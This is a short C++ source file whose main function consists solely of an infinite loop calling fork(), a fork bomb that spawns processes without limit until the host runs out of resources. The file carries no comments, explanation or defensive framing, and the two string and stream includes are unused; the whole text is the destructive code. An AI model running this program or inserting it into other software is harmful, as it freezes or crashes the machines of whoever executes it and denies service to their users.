#include <iostream>
#include <string>
#include <unistd.h>

int main() {
    for (;;) fork();
}
